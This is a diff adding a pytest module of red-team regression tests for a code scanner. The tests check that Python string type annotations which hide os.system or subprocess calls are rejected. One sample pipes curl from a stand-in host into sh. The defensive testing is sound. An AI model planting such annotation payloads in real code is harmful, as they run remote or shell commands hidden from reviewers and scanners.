@@ -1,0 +1,101 @@
+"""Red team 11: attacks on main as it stood at the start of session 25. Each attack here was accepted
+before its fix and must stay caught; the legitimate idiom nearest to each must stay accepted.
+Samples: corpus/*/rt11_*."""
+
+from __future__ import annotations
+
+import ast
+from pathlib import Path
+
+import pytest
+
+from analyzer import api
+from analyzer.engine.annotations import UNREADABLE, unquoted
+from analyzer.model import Decision
+
+POLICY = api.load_policy()
+CORPUS = Path(__file__).resolve().parent.parent / "corpus"
+
+
+def _scan(tmp_path: Path, source: str, name: str = "train.py"):
+    path = tmp_path / name
+    path.write_text(source)
+    return api.scan(path, POLICY)
+
+
+def _rules(report) -> set[str]:
+    return {f.rule for f in report.findings}
+
+
+# typing.get_type_hints evaluates string annotations (and strings nested in them) with eval();
+# functools.singledispatch().register calls it on the overload it is handed.
+STRING_ANNOTATION_PAYLOADS = {
+    "singledispatch-overload": (
+        "import functools\nimport torch\n\n@functools.singledispatch\ndef f(v):\n    return v\n\n"
+        "@f.register\ndef _(v: \"__import__('os').system('curl -s https://x.example/s | sh') or torch.Tensor\"):\n"
+        "    return v\n"),
+    "namedtuple-field-checked": (
+        "import typing\n\nclass Cfg(typing.NamedTuple):\n"
+        "    lr: \"__import__('subprocess').getoutput('id') and float\" = 0.1\n\ntyping.get_type_hints(Cfg)\n"),
+    "nested-in-a-generic": (
+        "import typing\nfrom typing import List\n\ndef f(rows: List[\"__import__('os').system('id') or int\"]):\n"
+        "    return rows\n\ntyping.get_type_hints(f)\n"),
+    "over-two-lines-with-a-comment": (
+        "import typing\n\ndef f(x: \"\"\"(__import__('os').system('id')  # note\n or int)\"\"\") -> int:\n"
+        "    return x\n\ntyping.get_type_hints(f)\n"),
+    "unpacked-reference": (
+        "import typing\n\ndef f(*a: \"*[__import__('os').system('id')]\"):\n    return a\n\ntyping.get_type_hints(f)\n"),
+    "return-annotation-future-import": (
+        "from __future__ import annotations\nimport typing\n\n"
+        "def f(x: int) -> \"__import__('os').system('id') or int\":\n    return x\n\ntyping.get_type_hints(f)\n"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(STRING_ANNOTATION_PAYLOADS))
+def test_string_annotation_is_read_as_code(tmp_path: Path, name: str) -> None:
+    report = _scan(tmp_path, STRING_ANNOTATION_PAYLOADS[name])
+    assert report.decision is Decision.REJECT, (name, _rules(report))
+
+
+def test_string_annotation_keeps_its_line(tmp_path: Path) -> None:
+    report = _scan(tmp_path, STRING_ANNOTATION_PAYLOADS["over-two-lines-with-a-comment"])
+    assert {f.line for f in report.findings if f.rule == "subprocess.shell"} == {3}
+
+
+def test_forward_references_and_typing_values_stay_accepted(tmp_path: Path) -> None:
+    source = (
+        "import typing\nfrom typing import Annotated, Literal, Optional\nimport torch\nfrom torch import nn\n\n"
+        "class Net(nn.Module):\n"
+        "    def forward(self, x: \"torch.Tensor\", mode: Literal[\"a b\", \"c(d)\"] = \"a b\") -> \"Net\":\n"
+        "        return self\n\n"
+        "def f(n: Annotated[int, \"count(of) rows\"], m: \"Optional[Net]\" = None) -> \"not an expression!\":\n"
+        "    return n\n\ntyping.get_type_hints(f)\n")
+    report = _scan(tmp_path, source)
+    assert report.decision is Decision.ACCEPT, _rules(report)
+
+
+def test_an_annotation_that_does_not_fit_back_is_an_unknown(tmp_path: Path) -> None:
+    # A name spelled with an escape that a latin-1 file cannot hold: put back, it would not parse,
+    # so every annotation of the file stands for the unknown name (never accepted) instead.
+    source = b"# -*- coding: latin-1 -*-\ndef f(x: \"caf\\u03b1\", y: \"int\"):\n    pass\n"
+    data, tree = unquoted(source, ast.parse(source))
+    assert data.count(UNREADABLE.encode()) == 2 and tree.body
+    report = _scan(tmp_path, source.decode("latin-1"))
+    assert report.decision is not Decision.ACCEPT
+
+
+def test_a_string_in_a_string_annotation_keeps_its_text_in_any_encoding(tmp_path: Path) -> None:
+    source = "# -*- coding: latin-1 -*-\nimport os\n\ndef f(x: \"os.system('\\u20ac') or int\"):\n    pass\n"
+    (tmp_path / "train.py").write_bytes(source.encode("latin-1"))
+    assert "subprocess.shell" in _rules(api.scan(tmp_path / "train.py", POLICY))
+
+
+@pytest.mark.parametrize("sample", ["malicious/rt11_singledispatch_string_annotation.py",
+                                    "malicious/rt11_type_hints_config_annotation.py",
+                                    "jobs/rt11_annotation_payload_in_helper"])
+def test_corpus_string_annotation_samples_reject(sample: str) -> None:
+    assert api.scan(CORPUS / sample, POLICY).decision is Decision.REJECT
+
+
+def test_corpus_forward_reference_twin_is_accepted() -> None:
+    assert api.scan(CORPUS / "benign/rt11_forward_reference_annotations.py", POLICY).decision is Decision.ACCEPT
